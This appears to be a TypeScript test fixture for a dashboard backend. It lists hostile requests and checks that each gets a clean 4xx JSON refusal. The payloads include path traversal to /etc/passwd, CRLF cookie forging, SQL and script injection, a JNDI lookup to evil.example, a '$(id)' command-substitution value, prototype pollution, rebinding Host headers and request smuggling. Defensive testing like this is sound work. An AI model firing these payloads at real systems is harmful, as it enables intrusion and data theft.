import { expect } from 'vitest';
import { errorBodySchema } from '../src/contract/error-body';
import { CONTRACT_INSTANCES } from './dcs-contract-server';
import type { RawRequest, RawResponse } from './raw-http';
import { expectApiHeaders, expectSecurityHeaders } from './security-headers';

/**
 * What a hostile client sends the BFF, route by route: ids, task ids, queries, bodies and methods, and the bytes
 * only a socket can carry. Whatever it is, the answer must be a 4xx JSON error (or a valid success) that cost
 * no upstream call.
 */

export const INSTANCE = 'standalone';
export const DCS_INSTANCE = CONTRACT_INSTANCES.haEligible.id;
/** An id DCS might own: only a well-formed request may make the BFF ask the cloud whether it does. */
export const UNKNOWN_DCS = '11111111-2222-4333-8444-555555555555';
export const MALFORMED_FOR_UNKNOWN_DCS: RawRequest[] = [
  { method: 'POST', path: `/api/instances/${UNKNOWN_DCS}/hotkey-tasks`, body: '{"impact":1}' },
  { method: 'GET', path: `/api/instances/${UNKNOWN_DCS}/hotkey-tasks?limit=abc` },
  { method: 'GET', path: `/api/instances/${UNKNOWN_DCS}/hotkey-tasks/a%00b` },
  { method: 'DELETE', path: `/api/instances/${UNKNOWN_DCS}/hotkey-tasks/..%2F..` },
  { method: 'PUT', path: `/api/instances/${UNKNOWN_DCS}/hotkey-autoscan`, body: '{"enable_auto_scan":1}' },
  { method: 'PUT', path: `/api/instances/${UNKNOWN_DCS}/hotkey-alert-rule`, body: '{"freq_threshold":"hot"}' },
];
/** Answers that refuse a request for what it is: none of them may have cost an upstream call. */
export const REFUSALS = new Set([400, 401, 403, 405, 413, 415, 421, 429]);
export const KNOWN_TASK = '00000000-0000-4000-8000-000000000000';
export const RULES = { 'content-type': 'application/json', 'x-requested-with': 'hotkeys' };

/** Path segments as they go on the wire (already percent-encoded where a raw byte cannot). */
export const HOSTILE_IDS = [
  '..',
  '.',
  '...',
  '%2e%2e',
  '%2E%2E',
  '.%2e',
  '%2e.',
  '..%2F..%2Fetc%2Fpasswd',
  '%2F',
  '%2Fetc%2Fpasswd',
  '%252F',
  '%252e%252e%252F',
  `${INSTANCE}%2F..`,
  `${INSTANCE}%2F`,
  'a%5Cb',
  '..%5C..%5Cwindows',
  '%EF%BC%8F',
  `${INSTANCE}%EF%BC%8Fx`,
  '%EF%BC%8E%EF%BC%8E',
  '%00',
  `${INSTANCE}%00`,
  '%0d%0a',
  `x%0d%0aSet-Cookie:%20hotkeys_session=forged`,
  '%09',
  '%20',
  `${INSTANCE}%20`,
  '%2F%2Fevil.example',
  'http:%2F%2Fevil.example',
  'a'.repeat(1024),
  `${'a'.repeat(64)}b`,
  '%',
  '%zz',
  '%ff',
  '%c0%ae%c0%ae',
  '%u002e%u002e',
  '%E2%80%AE',
  '%E2%80%8B',
  '%F0%9F%94%A5',
  encodeURIComponent('ｓｔａｎｄａｌｏｎｅ'),
  encodeURIComponent("' OR 1=1 --"),
  encodeURIComponent('<script>alert(1)</script>'),
  encodeURIComponent('${jndi:ldap://evil.example/a}'),
  encodeURIComponent('{{7*7}}'),
  encodeURIComponent('$(id)'),
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '9'.repeat(400),
  'STANDALONE',
  `-${INSTANCE}`,
  `${INSTANCE}.`,
  `${INSTANCE};x=1`,
  '*',
  '~root',
];

/** Every route with a path parameter, for one hostile instance id. */
export const routesForInstance = (id: string): RawRequest[] => [
  { method: 'GET', path: `/api/instances/${id}` },
  { method: 'GET', path: `/api/instances/${id}/hotkey-tasks` },
  // a valid body: only the id may stop it
  { method: 'POST', path: `/api/instances/${id}/hotkey-tasks`, body: '{}' },
  { method: 'GET', path: `/api/instances/${id}/hotkey-tasks/${KNOWN_TASK}` },
  { method: 'DELETE', path: `/api/instances/${id}/hotkey-tasks/${KNOWN_TASK}` },
  { method: 'POST', path: `/api/instances/${id}/hotkey-tasks/${KNOWN_TASK}/cancel` },
  { method: 'GET', path: `/api/instances/${id}/hotkey-autoscan` },
  { method: 'PUT', path: `/api/instances/${id}/hotkey-autoscan`, body: '{"enable_auto_scan":false,"schedule_at":[]}' },
  { method: 'GET', path: `/api/instances/${id}/hotkey-autoscan/runs` },
  { method: 'GET', path: `/api/instances/${id}/hotkey-alert-rule` },
  { method: 'PUT', path: `/api/instances/${id}/hotkey-alert-rule`, body: '{"enabled":false,"freq_threshold":10}' },
  { method: 'GET', path: `/api/instances/${id}/hotkey-alerts` },
];

export const routesForTask = (taskId: string, instance = INSTANCE): RawRequest[] => [
  { method: 'GET', path: `/api/instances/${instance}/hotkey-tasks/${taskId}` },
  { method: 'DELETE', path: `/api/instances/${instance}/hotkey-tasks/${taskId}` },
  { method: 'POST', path: `/api/instances/${instance}/hotkey-tasks/${taskId}/cancel` },
];

export const HOSTILE_QUERIES = [
  'limit=abc',
  'limit=0',
  'limit=-1',
  'limit=1.5',
  'limit=1e309',
  'limit=Infinity',
  'limit=1001',
  'limit=99999999999999999999999',
  'offset=-1',
  'offset=1e9',
  'offset=NaN',
  'offset=%00',
  'status=done',
  'status=success%00',
  'status=SUCCESS',
  'status=success%0d%0aX:y',
  'status=__proto__',
  `status=${'x'.repeat(1024)}`,
  `limit=${'9'.repeat(8000)}`,
  'limit[]=1&limit=-5',
  // numbers that are not plain decimal digits
  'limit=0x10',
  'limit=0b10',
  'limit=1e1',
  'limit=%2B16',
  'limit=16.0',
  'limit=%2016',
  'limit=16%20',
  'limit=016',
  'offset=0x0',
  'limit=%EF%BC%91%EF%BC%96',
];

/** Host headers of names the dashboard does not serve (a rebinding domain, a stray port, junk). */
export const HOSTILE_HOSTS = [
  'evil.example',
  'evil.example:8080',
  '127.0.0.1:8081',
  'localhost.evil.example:8080',
  '127.0.0.1.nip.io:8080',
  '0.0.0.0:8080',
  '[::ffff:127.0.0.1]:8080',
  '127.0.0.1:8080@evil.example',
  `${'a'.repeat(300)}:8080`,
];

export const CREATE_BODIES = [
  '{',
  '{"impact":"fast",}',
  "{'impact':'fast'}",
  '[]',
  '[1,2]',
  'null',
  'true',
  '0',
  '"gentle"',
  '{"impact":1}',
  '{"impact":null}',
  '{"impact":["fast"]}',
  '{"impact":{"$gt":""}}',
  '{"impact":"FAST"}',
  '{"impact":"fast\\u0000"}',
  '{"method":"sample","seconds":1e309}',
  '{"method":"sample","seconds":-1}',
  '{"method":"sample","seconds":0.5}',
  '{"method":"sample","seconds":9007199254740993}',
  '{"method":"sample","seconds":"5"}',
  '{"method":"lfu","seconds":5}',
  '{"method":"monitor"}',
  '{"__proto__":{"role":"operator"}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"impact":"fast","extra":1}',
  `{"impact":"${'x'.repeat(1024)}"}`,
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  '\u0000',
  '\ud800',
];

export const AUTOSCAN_BODIES = [
  '{}',
  '{"enable_auto_scan":"yes","schedule_at":[]}',
  '{"enable_auto_scan":true,"schedule_at":[]}',
  '{"enable_auto_scan":true,"schedule_at":["25:00"]}',
  '{"enable_auto_scan":true,"schedule_at":["1:00"]}',
  '{"enable_auto_scan":true,"schedule_at":["10:00","10:00"]}',
  `{"enable_auto_scan":true,"schedule_at":${JSON.stringify(Array.from({ length: 25 }, (_, i) => `${String(i % 24).padStart(2, '0')}:${i < 24 ? '00' : '30'}`))}}`,
  '{"enable_auto_scan":true,"schedule_at":"10:00"}',
  '{"enable_auto_scan":false,"schedule_at":[],"instance_id":"other"}',
];

export const ALERT_RULE_BODIES = [
  '{"enabled":true,"freq_threshold":255}',
  '{"enabled":true,"freq_threshold":-1}',
  '{"enabled":true,"freq_threshold":1.5}',
  '{"enabled":"yes","freq_threshold":1}',
  '{"enabled":true}',
  '{"enabled":true,"freq_threshold":1,"key_pattern":""}',
  `{"enabled":true,"freq_threshold":1,"key_pattern":"${'*'.repeat(300)}"}`,
  '{"enabled":true,"freq_threshold":1,"webhook":"http://evil.example"}',
  '{',
  'null',
];

export const SESSION_BODIES = [
  '{"token":123}',
  '{"token":""}',
  `{"token":"${'x'.repeat(2000)}"}`,
  '{"token":null}',
  '{}',
  '[',
];

/** Wrong methods on every route. */
export const WRONG_METHODS: RawRequest[] = [
  { method: 'PATCH', path: `/api/instances/${INSTANCE}/hotkey-tasks`, body: '{}' },
  { method: 'PUT', path: `/api/instances/${INSTANCE}/hotkey-tasks`, body: '{}' },
  { method: 'DELETE', path: `/api/instances/${INSTANCE}/hotkey-tasks` },
  { method: 'POST', path: `/api/instances/${INSTANCE}`, body: '{}' },
  { method: 'DELETE', path: `/api/instances/${INSTANCE}` },
  { method: 'PUT', path: `/api/instances/${INSTANCE}/hotkey-tasks/${KNOWN_TASK}`, body: '{}' },
  { method: 'POST', path: `/api/instances/${INSTANCE}/hotkey-tasks/${KNOWN_TASK}`, body: '{}' },
  { method: 'GET', path: `/api/instances/${INSTANCE}/hotkey-tasks/${KNOWN_TASK}/cancel` },
  { method: 'POST', path: `/api/instances/${INSTANCE}/hotkey-autoscan`, body: '{}' },
  { method: 'DELETE', path: `/api/instances/${INSTANCE}/hotkey-autoscan` },
  { method: 'POST', path: '/api/instances', body: '{}' },
  { method: 'POST', path: '/api/health', body: '{}' },
  { method: 'PUT', path: '/api/me', body: '{}' },
  { method: 'PATCH', path: '/api/session', body: '{}' },
  { method: 'OPTIONS', path: `/api/instances/${INSTANCE}/hotkey-tasks` },
  { method: 'PROPFIND', path: '/api/instances' },
];

/** Methods fetch's Request refuses to carry (forbidden methods): only a socket can send them to the BFF. */
export const FETCH_FORBIDDEN_METHODS: RawRequest[] = [{ method: 'TRACE', path: '/api/instances' }];

/**
 * Raw backslashes in the path: fetch and the URL parser would turn them into slashes, the BFF's HTTP adapter
 * refuses them; only a socket sends them as they are.
 */
export const RAW_BACKSLASH_PATHS = [
  `/api/instances/a\\b`,
  `/api/instances/${INSTANCE}/hotkey-tasks/..\\..\\x`,
  '/..\\secret.txt',
];

/** Bytes Node's HTTP parser refuses (a 20 KiB request line, a raw NUL, smuggling), with the status they get. */
export const UNPARSABLE_REQUESTS: [string, number][] = [
  [`GET /api/instances?limit=${'9'.repeat(20_000)} HTTP/1.1\r\nHost: x\r\n\r\n`, 431],
  [`GET /api/instances/a${'\u0000'}b HTTP/1.1\r\nHost: x\r\n\r\n`, 400],
  [`GET /api/instances/\u00ef\u00bc\u008f HTTP/1.1\r\nHost: x\r\n\r\n`, 400],
  [`GET /api/instances/x\rSet-Cookie: a=b HTTP/1.1\r\nHost: x\r\n\r\n`, 400],
  [`G(T /api/instances HTTP/1.1\r\nHost: x\r\n\r\n`, 400],
  [`GET /api/health HTTP/1.1\r\nHost: evil.example/x\r\n\r\n`, 400],
  [`POST /api/session HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`, 400],
];

/** The table: hostile ids on every route, hostile task ids, queries, bodies and methods. */
export const HOSTILE_REQUESTS: RawRequest[] = (
  [
    ...HOSTILE_IDS.flatMap(routesForInstance),
    ...[INSTANCE, DCS_INSTANCE].flatMap((instance) => [
      ...HOSTILE_IDS.flatMap((taskId) => routesForTask(taskId, instance)),
      ...HOSTILE_QUERIES.map((query) => ({ method: 'GET', path: `/api/instances/${instance}/hotkey-tasks?${query}` })),
      ...CREATE_BODIES.map((body) => ({ method: 'POST', path: `/api/instances/${instance}/hotkey-tasks`, body })),
      ...AUTOSCAN_BODIES.map((body) => ({ method: 'PUT', path: `/api/instances/${instance}/hotkey-autoscan`, body })),
    ]),
    ...ALERT_RULE_BODIES.map((body) => ({ method: 'PUT', path: `/api/instances/${INSTANCE}/hotkey-alert-rule`, body })),
    ...SESSION_BODIES.map((body) => ({ method: 'POST', path: '/api/session', body })),
    ...WRONG_METHODS,
    ...HOSTILE_HOSTS.flatMap((host) =>
      [
        { method: 'GET', path: `/api/instances/${INSTANCE}/hotkey-tasks` },
        { method: 'GET', path: '/api/instances' },
        {
          method: 'PUT',
          path: `/api/instances/${INSTANCE}/hotkey-autoscan`,
          body: '{"enable_auto_scan":false,"schedule_at":[]}',
        },
        { method: 'POST', path: `/api/instances/${INSTANCE}/hotkey-tasks`, body: '{}' },
      ].map((request) => ({ ...request, headers: { host, origin: `http://${host}` } })),
    ),
  ] as RawRequest[]
).map((request) => ({ ...request, headers: { ...RULES, ...request.headers } }));

/** What the WHATWG URL parser makes of dot segments before the router sees the path. */
export const normalise = (path: string): string => new URL(path.split('?')[0] ?? '', 'http://x').pathname;

/** Dot segments can lead a path out of /api/, to the SPA, which has the security headers but may be cached. */
export function expectHeadersFor(request: RawRequest, response: RawResponse): void {
  const what = `${request.method} ${request.path.slice(0, 120)}`;
  if (normalise(request.path).startsWith('/api/')) expectApiHeaders(response.headers, what);
  else expectSecurityHeaders(response.headers, what);
}

/** A 4xx answer must be the JSON error body with the API headers. */
export function expectJsonRefusal(request: RawRequest, response: RawResponse): void {
  const what = `${request.method} ${request.path.slice(0, 120)} ${String(request.body).slice(0, 60)}`;
  expect(response.status, `${what}: ${response.text.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
  expect(response.status, `${what}: ${response.text.slice(0, 200)}`).toBeLessThan(500);
  if (request.method === 'HEAD') return;
  expect(errorBodySchema.safeParse(response.json).success, `${what}: ${response.text.slice(0, 200)}`).toBe(true);
  expect(response.headers['content-type']).toMatch(/^application\/json/);
  expect(response.text, `${what}: no stack trace`).not.toMatch(/\bat .+\.(ts|js):\d+/);
  expectHeadersFor(request, response);
}
